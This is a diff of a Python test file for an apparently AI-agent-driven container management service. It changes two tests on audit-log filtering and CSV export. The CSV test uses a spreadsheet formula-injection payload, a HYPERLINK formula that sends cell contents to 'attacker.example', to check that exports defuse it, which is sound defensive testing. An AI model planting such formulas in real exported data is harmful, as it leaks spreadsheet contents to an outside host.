@@ -207,8 +207,12 @@ def test_a_thread_waiting_for_approval_takes_no_new_turn(
 
 def test_audit_time_filters_honour_the_zone_offset(client, user_headers, make_container):
     container = make_container("audit-tz")
-    client.get(f"/api/containers/{container.name}", headers=user_headers["operator"])
-    query = {"actor": "oscar", "tool": "inspect_container"}
+    # A change request, not a read: reads are counted per hour (audit_reads), not rows.
+    proposed = client.post(
+        f"/api/containers/{container.name}/restart", headers=user_headers["operator"]
+    )
+    assert proposed.status_code == 202, proposed.text
+    query = {"actor": "oscar", "tool": "restart_container", "event": "proposed"}
     [entry] = client.get(
         "/api/audit", params={**query, "limit": 1}, headers=user_headers["operator"]
     ).json()
@@ -232,7 +236,8 @@ def test_audit_time_filters_honour_the_zone_offset(client, user_headers, make_co
 
 def test_csv_export_defuses_spreadsheet_formulas(client, model, user_headers):
     request = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
-    model.say(tool_call("list_containers"), "ok")
+    # A refused change is an audit row (reads are only counted), with the request it came from.
+    model.say(tool_call("restart_container", container="csv-target"), "ok")
     assert (
         client.post(
             "/api/chat", json={"message": request}, headers=user_headers["viewer"]
@@ -242,7 +247,7 @@ def test_csv_export_defuses_spreadsheet_formulas(client, model, user_headers):
 
     exported = client.get(
         "/api/audit",
-        params={"actor": "victor", "tool": "list_containers", "limit": 1, "format": "csv"},
+        params={"actor": "victor", "tool": "restart_container", "limit": 1, "format": "csv"},
         headers=user_headers["viewer"],
     )
     [row] = list(csv.DictReader(io.StringIO(exported.text)))
@@ -250,7 +255,7 @@ def test_csv_export_defuses_spreadsheet_formulas(client, model, user_headers):
     # JSON keeps the exact text.
     [entry] = client.get(
         "/api/audit",
-        params={"actor": "victor", "tool": "list_containers", "limit": 1},
+        params={"actor": "victor", "tool": "restart_container", "limit": 1},
         headers=user_headers["viewer"],
     ).json()
     assert entry["request"] == request
